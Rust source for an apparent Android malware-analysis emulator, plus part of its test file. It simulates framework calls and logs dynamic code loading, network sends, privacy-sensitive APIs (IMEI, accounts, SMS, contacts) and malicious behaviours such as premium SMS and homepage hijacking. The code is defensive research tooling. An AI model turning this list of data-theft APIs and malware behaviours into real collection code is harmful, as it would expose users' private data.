            // Instance form (Runtime) passes the receiver first.
            let libname = last_string(args)
                .ok_or_else(|| Exec::Throw("NullPointerException: libName".to_string()))?;
            let resolved = vm.device.resolve_library(vm.package(), &libname);
            match resolved {
                Some(path) => {
                    native_load(vm, &path, DclKind::NativeLoadLibrary)?;
                    Ok(Value::Null)
                }
                None => Err(Exec::Throw(format!(
                    "UnsatisfiedLinkError: no {libname} in library path"
                ))),
            }
        }
        ("java.lang.System" | "java.lang.Runtime", "load" | "load0") => {
            let path = last_string(args)
                .ok_or_else(|| Exec::Throw("NullPointerException: path".to_string()))?;
            native_load(vm, &path, DclKind::NativeLoad)?;
            Ok(Value::Null)
        }
        ("java.lang.Runtime", "getRuntime") => {
            let id = vm.alloc("java.lang.Runtime", IntrinsicState::None);
            Ok(Value::Obj(id))
        }
        ("java.lang.Runtime", "exec") => {
            let command = last_string(args).unwrap_or_default();
            let pkg = vm.package().to_string();
            vm.device.log.push(Event::Behavior {
                behavior: BehaviorEvent::RemoteCommand { command },
                package: pkg,
            });
            Ok(Value::Null)
        }

        // ------------------------------------------------------------------
        // Reflection.
        // ------------------------------------------------------------------
        ("java.lang.Class", "forName") => {
            let cls = str_arg(args, 0, "className")?;
            if vm.proc.find_class(&cls).is_none() && !crate::interp::is_framework_class(&cls) {
                return Err(Exec::Throw(format!("ClassNotFoundException: {cls}")));
            }
            let id = vm.alloc("java.lang.Class", IntrinsicState::Class { name: cls });
            Ok(Value::Obj(id))
        }
        ("java.lang.Class", "newInstance") => {
            let this = obj_arg(args, 0, "Class")?;
            let cls = match &vm.proc.heap.get(this).map(|o| o.intrinsic.clone()) {
                Some(IntrinsicState::Class { name }) => name.clone(),
                _ => return Err(Exec::Throw("InstantiationException".to_string())),
            };
            let sym = vm.proc.interner.intern(&cls);
            let id = vm.proc.heap.alloc(sym);
            if vm.proc.resolve_method(&cls, "<init>").is_some() {
                vm.invoke_resolved(&cls, "<init>", vec![Value::Obj(id)])?;
            }
            Ok(Value::Obj(id))
        }
        ("java.lang.Class", "getMethod") => {
            let this = obj_arg(args, 0, "Class")?;
            let method = str_arg(args, 1, "methodName")?;
            let cls = match &vm.proc.heap.get(this).map(|o| o.intrinsic.clone()) {
                Some(IntrinsicState::Class { name }) => name.clone(),
                _ => return Err(Exec::Throw("NoSuchMethodException".to_string())),
            };
            let id = vm.alloc(
                "java.lang.reflect.Method",
                IntrinsicState::ReflectMethod { class: cls, method },
            );
            Ok(Value::Obj(id))
        }
        ("java.lang.reflect.Method", "invoke") => {
            let this = obj_arg(args, 0, "Method")?;
            let (cls, method) = match vm.proc.heap.get(this).map(|o| o.intrinsic.clone()) {
                Some(IntrinsicState::ReflectMethod { class, method }) => (class, method),
                _ => {
                    return Err(Exec::Throw(
                        "IllegalArgumentException: not a Method".to_string(),
                    ))
                }
            };
            let call_args: Vec<Value> = args[1..].to_vec();
            vm.invoke_resolved(&cls, &method, call_args)
        }

        // ------------------------------------------------------------------
        // URL / streams: the download tracker's instrumented classes.
        // ------------------------------------------------------------------
        ("java.net.URL", "<init>") => {
            let this = obj_arg(args, 0, "URL")?;
            let spec = str_arg(args, 1, "spec")?;
            if let Some(obj) = vm.proc.heap.get_mut(this) {
                obj.intrinsic = IntrinsicState::Url { url: spec };
            }
            Ok(Value::Null)
        }
        ("java.net.URL", "openConnection") => {
            let this = obj_arg(args, 0, "URL")?;
            let url = match vm.proc.heap.get(this).map(|o| o.intrinsic.clone()) {
                Some(IntrinsicState::Url { url }) => url,
                _ => return Err(io_error("unconnected URL")),
            };
            let id = vm.alloc(
                "java.net.HttpURLConnection",
                IntrinsicState::UrlConnection { url },
            );
            Ok(Value::Obj(id))
        }
        (
            "java.net.URLConnection"
            | "java.net.HttpURLConnection"
            | "java.net.HttpsURLConnection"
            | "java.net.FtpURLConnection",
            "getInputStream",
        ) => {
            let this = obj_arg(args, 0, "URLConnection")?;
            let url = match vm.proc.heap.get(this).map(|o| o.intrinsic.clone()) {
                Some(IntrinsicState::UrlConnection { url }) => url,
                _ => return Err(io_error("unconnected")),
            };
            let pkg = vm.package().to_string();
            if !vm.device.network_available() {
                vm.device.log.push(Event::NetFetch {
                    url: url.clone(),
                    bytes: None,
                    package: pkg,
                });
                return Err(io_error("network unreachable"));
            }
            let data = vm.device.net.fetch(&url).map(<[u8]>::to_vec);
            match data {
                Some(data) => {
                    vm.device.log.push(Event::NetFetch {
                        url: url.clone(),
                        bytes: Some(data.len()),
                        package: pkg,
                    });
                    let id = vm.alloc(
                        "java.io.InputStream",
                        IntrinsicState::InputStream {
                            source: StreamSource::Url(url.clone()),
                            data,
                        },
                    );
                    vm.device
                        .hooks
                        .flow
                        .add_edge(FlowNode::Url(url), FlowNode::InputStream(id.0));
                    Ok(Value::Obj(id))
                }
                None => {
                    vm.device.log.push(Event::NetFetch {
                        url: url.clone(),
                        bytes: None,
                        package: pkg,
                    });
                    Err(io_error(format!("HTTP 404: {url}")))
                }
            }
        }
        (
            "java.net.URLConnection" | "java.net.HttpURLConnection" | "java.net.HttpsURLConnection",
            "getOutputStream",
        ) => {
            let this = obj_arg(args, 0, "URLConnection")?;
            let url = match vm.proc.heap.get(this).map(|o| o.intrinsic.clone()) {
                Some(IntrinsicState::UrlConnection { url }) => url,
                _ => return Err(io_error("unconnected")),
            };
            if !vm.device.network_available() {
                return Err(io_error("network unreachable"));
            }
            let domain = split_url(&url).map(|(d, _)| d.to_string()).unwrap_or(url);
            let id = vm.alloc(
                "java.io.OutputStream",
                IntrinsicState::OutputStream {
                    sink: StreamSink::Net(domain),
                },
            );
            Ok(Value::Obj(id))
        }
        ("java.io.FileInputStream", "<init>") => {
            let this = obj_arg(args, 0, "FileInputStream")?;
            let path = stream_path_arg(vm, args, 1)?;
            let data = vm
                .device
                .fs
                .read(&path)
                .map(<[u8]>::to_vec)
                .map_err(|e| io_error(e.to_string()))?;
            if let Some(obj) = vm.proc.heap.get_mut(this) {
                obj.intrinsic = IntrinsicState::InputStream {
                    source: StreamSource::File(path.clone()),
                    data,
                };
            }
            vm.device
                .hooks
                .flow
                .add_edge(FlowNode::File(path), FlowNode::InputStream(this.0));
            Ok(Value::Null)
        }
        ("android.content.res.AssetManager", "open") => {
            let name = last_string(args)
                .ok_or_else(|| Exec::Throw("NullPointerException: asset".to_string()))?;
            let pkg = vm.package().to_string();
            let data = vm
                .device
                .asset(&pkg, &name)
                .map(<[u8]>::to_vec)
                .ok_or_else(|| io_error(format!("asset not found: {name}")))?;
            let id = vm.alloc(
                "java.io.InputStream",
                IntrinsicState::InputStream {
                    source: StreamSource::Asset(name.clone()),
                    data,
                },
            );
            vm.device.hooks.flow.add_edge(
                FlowNode::File(format!("apk:assets/{name}")),
                FlowNode::InputStream(id.0),
            );
            Ok(Value::Obj(id))
        }
        ("java.io.FileOutputStream", "<init>") => {
            let this = obj_arg(args, 0, "FileOutputStream")?;
            let path = stream_path_arg(vm, args, 1)?;
            let pkg = vm.package().to_string();
            vm.device
                .app_write(&pkg, &path, Vec::new())
                .map_err(|e| io_error(e.to_string()))?;
            vm.device.log.push(Event::File {
                op: FileOp::Write,
                path: path.clone(),
                suppressed: false,
                package: pkg,
            });
            if let Some(obj) = vm.proc.heap.get_mut(this) {
                obj.intrinsic = IntrinsicState::OutputStream {
                    sink: StreamSink::File(path.clone()),
                };
            }
            vm.device
                .hooks
                .flow
                .add_edge(FlowNode::OutputStream(this.0), FlowNode::File(path));
            Ok(Value::Null)
        }
        // Stream wrappers: the Table I rules InputStream→InputStream and
        // OutputStream→OutputStream (e.g. BufferedInputStream around a
        // URL stream) — taint follows the wrap.
        ("java.io.BufferedInputStream" | "java.io.DataInputStream", "<init>") => {
            let this = obj_arg(args, 0, "BufferedInputStream")?;
            let inner = obj_arg(args, 1, "wrapped stream")?;
            let state = match vm.proc.heap.get(inner).map(|o| o.intrinsic.clone()) {
                Some(s @ IntrinsicState::InputStream { .. }) => s,
                _ => return Err(io_error("wrapping a non-stream")),
            };
            if let Some(obj) = vm.proc.heap.get_mut(this) {
                obj.intrinsic = state;
            }
            vm.device.hooks.flow.add_edge(
                FlowNode::InputStream(inner.0),
                FlowNode::InputStream(this.0),
            );
            Ok(Value::Null)
        }
        ("java.io.BufferedOutputStream" | "java.io.DataOutputStream", "<init>") => {
            let this = obj_arg(args, 0, "BufferedOutputStream")?;
            let inner = obj_arg(args, 1, "wrapped stream")?;
            let state = match vm.proc.heap.get(inner).map(|o| o.intrinsic.clone()) {
                Some(s @ IntrinsicState::OutputStream { .. }) => s,
                _ => return Err(io_error("wrapping a non-stream")),
            };
            if let Some(obj) = vm.proc.heap.get_mut(this) {
                obj.intrinsic = state.clone();
            }
            vm.device.hooks.flow.add_edge(
                FlowNode::OutputStream(this.0),
                FlowNode::OutputStream(inner.0),
            );
            // A file-bound wrapper also writes to the file node.
            if let IntrinsicState::OutputStream {
                sink: StreamSink::File(path),
            } = state
            {
                vm.device
                    .hooks
                    .flow
                    .add_edge(FlowNode::OutputStream(this.0), FlowNode::File(path));
            }
            Ok(Value::Null)
        }
        ("java.io.BufferedInputStream" | "java.io.DataInputStream", "read") => dispatch(
            vm,
            &MethodRef::new("java.io.InputStream", "read", "(Ljava/io/Buffer;)I"),
            args,
        ),
        ("java.io.BufferedOutputStream" | "java.io.DataOutputStream", "write") => dispatch(
            vm,
            &MethodRef::new("java.io.OutputStream", "write", "(Ljava/io/Buffer;)V"),
            args,
        ),
        (
            "java.io.BufferedInputStream"
            | "java.io.DataInputStream"
            | "java.io.BufferedOutputStream"
            | "java.io.DataOutputStream",
            "close",
        ) => Ok(Value::Null),
        ("java.io.Buffer", "<init>") => {
            let this = obj_arg(args, 0, "Buffer")?;
            if let Some(obj) = vm.proc.heap.get_mut(this) {
                obj.intrinsic = IntrinsicState::Buffer { data: Vec::new() };
            }
            Ok(Value::Null)
        }
        ("java.io.Buffer", "toString") => {
            let this = obj_arg(args, 0, "Buffer")?;
            match vm.proc.heap.get(this).map(|o| o.intrinsic.clone()) {
                Some(IntrinsicState::Buffer { data }) => {
                    Ok(Value::Str(String::from_utf8_lossy(&data).into_owned()))
                }
                _ => Ok(Value::Str(String::new())),
            }
        }
        ("java.io.Buffer", "putString") => {
            let this = obj_arg(args, 0, "Buffer")?;
            let s = str_arg(args, 1, "data")?;
            if let Some(IntrinsicState::Buffer { data }) =
                vm.proc.heap.get_mut(this).map(|o| &mut o.intrinsic)
            {
                data.extend_from_slice(s.as_bytes());
            }
            Ok(Value::Null)
        }
        ("java.io.Buffer", "size") => {
            let this = obj_arg(args, 0, "Buffer")?;
            match vm.proc.heap.get(this).map(|o| o.intrinsic.clone()) {
                Some(IntrinsicState::Buffer { data }) => Ok(Value::Int(data.len() as i64)),
                _ => Ok(Value::Int(0)),
            }
        }
        ("java.io.InputStream" | "java.io.FileInputStream", "read") => {
            let this = obj_arg(args, 0, "InputStream")?;
            let buffer = obj_arg(args, 1, "buffer")?;
            let data = match vm.proc.heap.get(this).map(|o| o.intrinsic.clone()) {
                Some(IntrinsicState::InputStream { data, .. }) => data,
                _ => return Err(io_error("stream closed")),
            };
            let len = data.len();
            if let Some(IntrinsicState::Buffer { data: buf }) =
                vm.proc.heap.get_mut(buffer).map(|o| &mut o.intrinsic)
            {
                buf.extend_from_slice(&data);
            } else {
                return Err(io_error("read target is not a buffer"));
            }
            vm.device
                .hooks
                .flow
                .add_edge(FlowNode::InputStream(this.0), FlowNode::Buffer(buffer.0));
            Ok(Value::Int(len as i64))
        }
        ("java.io.InputStream" | "java.io.FileInputStream", "close") => Ok(Value::Null),
        ("java.io.OutputStream" | "java.io.FileOutputStream", "write") => {
            let this = obj_arg(args, 0, "OutputStream")?;
            let payload: Vec<u8> = match args.get(1) {
                Some(Value::Obj(buf_id)) => {
                    match vm.proc.heap.get(*buf_id).map(|o| o.intrinsic.clone()) {
                        Some(IntrinsicState::Buffer { data }) => {
                            vm.device.hooks.flow.add_edge(
                                FlowNode::Buffer(buf_id.0),
                                FlowNode::OutputStream(this.0),
                            );
                            data
                        }
                        _ => return Err(io_error("write source is not a buffer")),
                    }
                }
                Some(Value::Str(s)) => s.clone().into_bytes(),
                _ => return Err(io_error("nothing to write")),
            };
            let sink = match vm.proc.heap.get(this).map(|o| o.intrinsic.clone()) {
                Some(IntrinsicState::OutputStream { sink }) => sink,
                _ => return Err(io_error("stream closed")),
            };
            let pkg = vm.package().to_string();
            match sink {
                StreamSink::File(path) => {
                    vm.device
                        .app_append(&pkg, &path, &payload)
                        .map_err(|e| io_error(e.to_string()))?;
                    vm.device
                        .hooks
                        .flow
                        .add_edge(FlowNode::OutputStream(this.0), FlowNode::File(path));
                }
                StreamSink::Net(domain) => {
                    if !vm.device.network_available() {
                        return Err(io_error("network unreachable"));
                    }
                    vm.device.log.push(Event::NetSend {
                        domain,
                        bytes: payload.len(),
                        package: pkg,
                    });
                }
            }
            Ok(Value::Null)
        }
        ("java.io.OutputStream" | "java.io.FileOutputStream", "close") => Ok(Value::Null),

        // ------------------------------------------------------------------
        // java.io.File: the mutual-exclusion hooks.
        // ------------------------------------------------------------------
        ("java.io.File", "<init>") => {
            let this = obj_arg(args, 0, "File")?;
            let path = str_arg(args, 1, "path")?;
            if let Some(obj) = vm.proc.heap.get_mut(this) {
                obj.intrinsic = IntrinsicState::File { path };
            }
            Ok(Value::Null)
        }
        ("java.io.File", "delete") => {
            let this = obj_arg(args, 0, "File")?;
            let path = file_path(vm, this)?;
            let pkg = vm.package().to_string();
            let ok = vm.device.app_delete(&pkg, &path);
            Ok(Value::Int(i64::from(ok)))
        }
        ("java.io.File", "renameTo") => {
            let this = obj_arg(args, 0, "File")?;
            let from = file_path(vm, this)?;
            let to = match args.get(1) {
                Some(Value::Str(s)) => s.clone(),
                Some(Value::Obj(id)) => file_path(vm, *id)?,
                _ => return Err(Exec::Throw("NullPointerException: renameTo".to_string())),
            };
            let pkg = vm.package().to_string();
            let ok = vm.device.app_rename(&pkg, &from, &to);
            Ok(Value::Int(i64::from(ok)))
        }
        ("java.io.File", "exists") => {
            let this = obj_arg(args, 0, "File")?;
            let path = file_path(vm, this)?;
            Ok(Value::Int(i64::from(vm.device.fs.exists(&path))))
        }
        ("java.io.File", "getPath") => {
            let this = obj_arg(args, 0, "File")?;
            Ok(Value::Str(file_path(vm, this)?))
        }
        ("java.io.File", "length") => {
            let this = obj_arg(args, 0, "File")?;
            let path = file_path(vm, this)?;
            Ok(Value::Int(
                vm.device.fs.read(&path).map(<[u8]>::len).unwrap_or(0) as i64,
            ))
        }

        // ------------------------------------------------------------------
        // Strings.
        // ------------------------------------------------------------------
        ("java.lang.String", "concat") => {
            let a = str_arg(args, 0, "this")?;
            let b = str_arg(args, 1, "other")?;
            Ok(Value::Str(format!("{a}{b}")))
        }
        ("java.lang.String", "valueOf") => Ok(Value::Str(match args.first() {
            Some(Value::Int(v)) => v.to_string(),
            Some(Value::Str(s)) => s.clone(),
            _ => String::new(),
        })),
        ("java.lang.String", "length") => Ok(Value::Int(str_arg(args, 0, "this")?.len() as i64)),
        ("java.lang.String", "startsWith") => {
            let a = str_arg(args, 0, "this")?;
            let b = str_arg(args, 1, "prefix")?;
            Ok(Value::Int(i64::from(a.starts_with(&b))))
        }
        ("java.lang.String", "contains") => {
            let a = str_arg(args, 0, "this")?;
            let b = str_arg(args, 1, "needle")?;
            Ok(Value::Int(i64::from(a.contains(&b))))
        }
        ("java.lang.String", "equals") => Ok(Value::Int(i64::from(args.first() == args.get(1)))),

        // ------------------------------------------------------------------
        // Privacy sources (Table X): logged as Api events.
        // ------------------------------------------------------------------
        ("android.telephony.TelephonyManager", "getDeviceId") => {
            log_api(vm, class, name);
            Ok(Value::Str(canned::IMEI.to_string()))
        }
        ("android.telephony.TelephonyManager", "getSubscriberId") => {
            log_api(vm, class, name);
            Ok(Value::Str(canned::IMSI.to_string()))
        }
        ("android.telephony.TelephonyManager", "getSimSerialNumber") => {
            log_api(vm, class, name);
            Ok(Value::Str(canned::ICCID.to_string()))
        }
        ("android.telephony.TelephonyManager", "getLine1Number") => {
            log_api(vm, class, name);
            Ok(Value::Str(canned::LINE1.to_string()))
        }
        ("android.location.LocationManager", "getLastKnownLocation") => {
            log_api(vm, class, name);
            if vm.device.state.location_enabled {
                Ok(Value::Str(canned::LOCATION.to_string()))
            } else {
                Ok(Value::Null)
            }
        }
        ("android.location.LocationManager", "isProviderEnabled") => {
            Ok(Value::Int(i64::from(vm.device.state.location_enabled)))
        }
        ("android.accounts.AccountManager", "getAccounts") => {
            log_api(vm, class, name);
            Ok(Value::Str(canned::ACCOUNT.to_string()))
        }
        (
            "android.content.pm.PackageManager",
            "getInstalledApplications" | "getInstalledPackages",
        ) => {
            log_api(vm, class, name);
            Ok(Value::Str(vm.device.installed_packages().join(",")))
        }
        ("android.content.ContentResolver", "query") => {
            let uri = str_arg(args, 0, "uri").or_else(|_| str_arg(args, 1, "uri"))?;
            let caller = vm.caller_class().to_string();
            let pkg = vm.package().to_string();
            vm.device.log.push(Event::Api {
                class: class.to_string(),
                method: format!("query({uri})"),
                caller_class: caller,
                package: pkg,
            });
            Ok(Value::Str(content_provider_data(&uri)))
        }
        ("android.provider.Settings", "getString") => {
            log_api(vm, class, name);
            Ok(Value::Str("settings-value".to_string()))
        }

        // ------------------------------------------------------------------
        // Environment probes (malware trigger conditions, Table VIII).
        // ------------------------------------------------------------------
        ("java.lang.System", "currentTimeMillis") => Ok(Value::Int(vm.device.state.time_ms)),
        ("android.net.ConnectivityManager", "isConnected") => {
            Ok(Value::Int(i64::from(vm.device.network_available())))
        }
        // Settings.Global.AIRPLANE_MODE_ON probe (malware trigger).
        ("android.provider.Settings", "getAirplaneMode") => {
            Ok(Value::Int(i64::from(vm.device.state.airplane_mode)))
        }

        // ------------------------------------------------------------------
        // Behaviour sinks.
        // ------------------------------------------------------------------
        ("android.telephony.SmsManager", "sendTextMessage") => {
            let (number, body) = two_trailing_strings(args);
            let pkg = vm.package().to_string();
            vm.device.log.push(Event::Behavior {
                behavior: BehaviorEvent::SmsSent { number, body },
                package: pkg,
            });
            Ok(Value::Null)
        }
        ("android.app.NotificationManager", "notify") => {
            let text = last_string(args).unwrap_or_default();
            let pkg = vm.package().to_string();
            vm.device.log.push(Event::Behavior {
                behavior: BehaviorEvent::Notification { text },
                package: pkg,
            });
            Ok(Value::Null)
        }
        ("android.content.pm.ShortcutManager", "requestPinShortcut") => {
            let label = last_string(args).unwrap_or_default();
            let pkg = vm.package().to_string();
            vm.device.log.push(Event::Behavior {
                behavior: BehaviorEvent::ShortcutInstalled { label },
                package: pkg,
            });
            Ok(Value::Null)
        }
        ("android.provider.Browser", "setHomepage") => {
            let url = last_string(args).unwrap_or_default();
            let pkg = vm.package().to_string();
            vm.device.log.push(Event::Behavior {
                behavior: BehaviorEvent::HomepageChanged { url },
                package: pkg,
            });
            Ok(Value::Null)
        }
        ("android.content.Context", "startService") => {
            let cls = last_string(args)
                .ok_or_else(|| Exec::Throw("NullPointerException: service".to_string()))?;
            let pkg = vm.package().to_string();
            vm.device.log.push(Event::Behavior {
                behavior: BehaviorEvent::ServiceStarted { class: cls.clone() },
                package: pkg,
            });
            // Run the service lifecycle in-process.
            if vm.proc.resolve_method(&cls, "onCreate").is_some() {
                vm.call_entry(&cls, "onCreate")?;
            }
            if vm.proc.resolve_method(&cls, "onStart").is_some() {
                vm.call_entry(&cls, "onStart")?;
            }
            Ok(Value::Null)
        }
        ("android.os.Environment", "getExternalStorageDirectory") => {
            Ok(Value::Str(paths::EXTERNAL_ROOT.to_string()))
        }
        ("android.content.Context", "getFilesDir") => {
            Ok(Value::Str(paths::files_dir(vm.package())))
        }
        ("android.content.Context", "getCacheDir") => {
            Ok(Value::Str(paths::cache_dir(vm.package())))
        }
        ("java.lang.Thread", "sleep") => Ok(Value::Null),
        ("java.lang.Object", "<init>") => Ok(Value::Null),
        ("android.util.Log", _) => Ok(Value::Null),

        // Unmodeled framework surface: benign no-op.
        _ => Ok(Value::Null),
    }
}

fn log_api(vm: &mut Vm<'_>, class: &str, method: &str) {
    let caller = vm.caller_class().to_string();
    let pkg = vm.package().to_string();
    vm.device.log.push(Event::Api {
        class: class.to_string(),
        method: method.to_string(),
        caller_class: caller,
        package: pkg,
    });
}

fn last_string(args: &[Value]) -> Option<String> {
    args.iter()
        .rev()
        .find_map(|v| v.as_str().map(str::to_string))
}

fn two_trailing_strings(args: &[Value]) -> (String, String) {
    let strings: Vec<&str> = args.iter().filter_map(Value::as_str).collect();
    match strings.as_slice() {
        [.., a, b] => ((*a).to_string(), (*b).to_string()),
        [a] => ((*a).to_string(), String::new()),
        _ => (String::new(), String::new()),
    }
}

/// Resolves a stream-constructor path argument: either a string or a
/// `java.io.File` object.
fn stream_path_arg(vm: &Vm<'_>, args: &[Value], i: usize) -> Result<String, Exec> {
    match args.get(i) {
        Some(Value::Str(s)) => Ok(s.clone()),
        Some(Value::Obj(id)) => file_path(vm, *id),
        _ => Err(Exec::Throw("NullPointerException: path".to_string())),
    }
}

fn file_path(vm: &Vm<'_>, id: ObjId) -> Result<String, Exec> {
    match vm.proc.heap.get(id).map(|o| o.intrinsic.clone()) {
        Some(IntrinsicState::File { path }) => Ok(path),
        _ => Err(Exec::Throw("NullPointerException: not a File".to_string())),
    }
}

fn content_provider_data(uri: &str) -> String {
    // Canned rows per privacy-sensitive content provider.
    let table = [
        ("content://contacts", "contact:Alice:+15555550111"),
        ("content://com.android.calendar", "event:Standup:2016-11-02"),
        ("content://call_log", "call:+15555550122:62s"),
        ("content://browser", "bookmark:http://news.example.com"),
        ("content://media/audio", "audio:track01.mp3"),
        ("content://media/images", "image:IMG_0001.jpg"),
        ("content://media/video", "video:VID_0001.mp4"),
        ("content://settings", "adb_enabled=0"),
        ("content://mms", "mms:+15555550133:photo"),
        ("content://sms", "sms:+15555550144:hello"),
    ];
    for (prefix, data) in table {
        if uri.starts_with(prefix) {
            return data.to_string();
        }
    }
    String::new()
}

// --------------------------------------------------------------------------
// The DCL logger + interceptor.
// --------------------------------------------------------------------------

/// Handles a `DexClassLoader`/`PathClassLoader` constructor: loads the DEX
/// at `dex_path` into a fresh class space, emits the DCL event with
/// call-site attribution, intercepts the binary, and writes the odex copy.
fn dex_load(
    vm: &mut Vm<'_>,
    this: ObjId,
    dex_path: &str,
    odex_dir: &str,
    kind: DclKind,
) -> Result<(), Exec> {
    // System binaries are trusted and skipped by the logger.
    if dex_path.starts_with(paths::SYSTEM_LIB) || paths::is_system(dex_path) {
        return Ok(());
    }
    let pkg = vm.package().to_string();
    let call_site = vm.caller_class().to_string();
    let stack = vm.stack_trace();

    let bytes = vm.device.fs.read(dex_path).map(<[u8]>::to_vec);
    let parsed = bytes.as_ref().ok().and_then(|b| DexFile::parse(b).ok());
    let success = parsed.is_some();

    if let (Ok(bytes), Some(dex)) = (&bytes, parsed) {
        let space = vm.proc.spaces.len();
        vm.proc.spaces.push(dex);
        if let Some(obj) = vm.proc.heap.get_mut(this) {
            obj.intrinsic = IntrinsicState::ClassLoader { space };
        }
        vm.device.hooks.intercept(InterceptedBinary {
            path: dex_path.to_string(),
            data: bytes.clone(),
            kind,
            call_site_class: call_site.clone(),
            package: pkg.clone(),
        });
        // The runtime writes the optimized copy into the odex directory.
        if !odex_dir.is_empty() {
            let odex_path = format!("{}/{}.odex", odex_dir, paths::basename(dex_path));
            let _ = vm.device.app_write(&pkg, &odex_path, bytes.clone());
        }
    }

    vm.device.log.push(Event::Dcl(DclEvent {
        kind,
        path: dex_path.to_string(),
        odex_dir: Some(odex_dir.to_string()),
        call_site_class: call_site,
        stack,
        package: pkg,
        success,
    }));
    Ok(())
}

/// Handles `System.load`/`System.loadLibrary`: parses the library, runs
/// `JNI_OnLoad`, and (for non-system paths) logs and intercepts.
fn native_load(vm: &mut Vm<'_>, path: &str, kind: DclKind) -> Result<(), Exec> {
    let system = paths::is_system(path);
    let pkg = vm.package().to_string();
    let call_site = vm.caller_class().to_string();
    let stack = vm.stack_trace();

    let bytes = vm
        .device
        .fs
        .read(path)
        .map(<[u8]>::to_vec)
        .map_err(|e| Exec::Throw(format!("UnsatisfiedLinkError: {e}")))?;
    let lib = NativeLibrary::parse(&bytes)
        .map_err(|e| Exec::Throw(format!("UnsatisfiedLinkError: {e}")))?;

    if !system {
        vm.device.hooks.intercept(InterceptedBinary {
            path: path.to_string(),
            data: bytes,
            kind,
            call_site_class: call_site.clone(),
            package: pkg.clone(),
        });
        vm.device.log.push(Event::Dcl(DclEvent {
            kind,
            path: path.to_string(),
            odex_dir: None,
            call_site_class: call_site,
            stack,
            package: pkg,
            success: true,
        }));
    }

    let has_onload = lib
        .function("JNI_OnLoad")
        .map(|f| f.exported)
        .unwrap_or(false);
    vm.proc.native_libs.push(lib);
    let idx = vm.proc.native_libs.len() - 1;
    if has_onload {
        crate::nativerun::run_native(vm, idx, "JNI_OnLoad")?;
    }
    Ok(())
}

fn load_class(vm: &mut Vm<'_>, loader: ObjId, class: &str) -> Result<Value, Exec> {
    let space = match vm.proc.heap.get(loader).map(|o| o.intrinsic.clone()) {
        Some(IntrinsicState::ClassLoader { space }) => Some(space),
        _ => None,
    };
    let found = match space {
        Some(idx) => vm
            .proc
            .spaces
            .get(idx)
            .map(|s| s.class(class).is_some())
            .unwrap_or(false),
        // A loader whose load failed delegates to the app space.
        None => vm.proc.find_class(class).is_some(),
    };
    if !found {
        return Err(Exec::Throw(format!("ClassNotFoundException: {class}")));
    }
    let id = vm.alloc(
        "java.lang.Class",
        IntrinsicState::Class {
            name: class.to_string(),
        },
    );
    Ok(Value::Obj(id))
}
