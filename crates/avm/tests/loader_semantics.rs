//! Loader-semantics edge cases: the corners of the DCL hooks that the
//! measurement's failure statistics depend on.

use dydroid_avm::events::DclKind;
use dydroid_avm::{Device, DeviceConfig, Process};
use dydroid_dex::builder::DexBuilder;
use dydroid_dex::native::{Arch, NativeFunction, NativeInsn, NativeLibrary};
use dydroid_dex::{AccessFlags, Apk, Component, Manifest, MethodRef};

fn device_with(pkg: &str, build: impl FnOnce(&mut DexBuilder)) -> (Device, Process) {
    let mut manifest = Manifest::new(pkg);
    manifest
        .components
        .push(Component::main_activity(format!("{pkg}.Main")));
    let mut b = DexBuilder::new();
    build(&mut b);
    let dex = b.build();
    let mut device = Device::new(DeviceConfig::default());
    device
        .install(&Apk::build(manifest.clone(), dydroid_dex::DexFile::new()).to_bytes())
        .unwrap();
    let process = Process::new(pkg.to_string(), dex, &manifest);
    (device, process)
}

#[test]
fn infinite_native_loop_hits_shared_fuel() {
    // A hostile JNI_OnLoad spinning forever must hit the interpreter's
    // shared fuel budget, not hang the harness.
    let pkg = "com.spin.native";
    let lib = NativeLibrary::new("libspin.so", Arch::Arm).with_function(NativeFunction::exported(
        "JNI_OnLoad",
        vec![NativeInsn::Jump { target: 0 }],
    ));
    let (mut device, mut process) = device_with(pkg, |b| {
        let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.const_str(1, "/data/data/com.spin.native/files/libspin.so");
        m.invoke_static(
            MethodRef::new("java.lang.System", "load", "(Ljava/lang/String;)V"),
            vec![1],
        );
        m.ret_void();
    });
    device
        .app_write(
            pkg,
            "/data/data/com.spin.native/files/libspin.so",
            lib.to_bytes(),
        )
        .unwrap();
    let started = std::time::Instant::now();
    let completed = process.run_entry(&mut device, &format!("{pkg}.Main"), "onCreate");
    assert!(!completed, "must abort on fuel exhaustion");
    assert!(started.elapsed().as_secs() < 5, "must not hang");
    assert!(device.log.events().iter().any(|e| matches!(
        e,
        dydroid_avm::Event::Crash { reason, .. } if reason.contains("budget")
    )));
    // The load itself was still observed before the spin.
    assert_eq!(device.log.dcl_events().count(), 1);
}

#[test]
fn odex_write_failure_does_not_break_the_load() {
    // A loader pointing its optimized-dex directory at another app's
    // storage: the odex copy is silently skipped (permission), but the
    // load itself succeeds — matching the paper's observation that the
    // odex dir is app-controlled.
    let pkg = "com.odex.foreign";
    let payload = {
        let mut b = DexBuilder::new();
        b.class("p.P", "java.lang.Object").default_constructor();
        b.build()
    };
    let staged = format!("/data/data/{pkg}/files/p.dex");
    let (mut device, mut process) = device_with(pkg, |b| {
        let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        m.const_str(1, &staged);
        m.const_str(2, "/data/data/com.other.app/odex");
        m.new_instance(3, "dalvik.system.DexClassLoader");
        m.invoke_direct(
            MethodRef::new(
                "dalvik.system.DexClassLoader",
                "<init>",
                "(Ljava/lang/String;Ljava/lang/String;)V",
            ),
            vec![3, 1, 2],
        );
        m.ret_void();
    });
    device.app_write(pkg, &staged, payload.to_bytes()).unwrap();
    assert!(process.run_entry(&mut device, &format!("{pkg}.Main"), "onCreate"));
    let events: Vec<_> = device.log.dcl_events().collect();
    assert_eq!(events.len(), 1);
    assert!(events[0].success);
    assert!(!device.fs.exists("/data/data/com.other.app/odex/p.dex.odex"));
    assert_eq!(process.dynamic_space_count(), 1);
}

#[test]
fn path_class_loader_has_its_own_event_kind() {
    let pkg = "com.pathloader";
    let payload = {
        let mut b = DexBuilder::new();
        b.class("p.P", "java.lang.Object").default_constructor();
        b.build()
    };
    let staged = format!("/data/data/{pkg}/files/p.apk");
    let (mut device, mut process) = device_with(pkg, |b| {
        let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        m.const_str(1, &staged);
        m.new_instance(2, "dalvik.system.PathClassLoader");
        m.invoke_direct(
            MethodRef::new(
                "dalvik.system.PathClassLoader",
                "<init>",
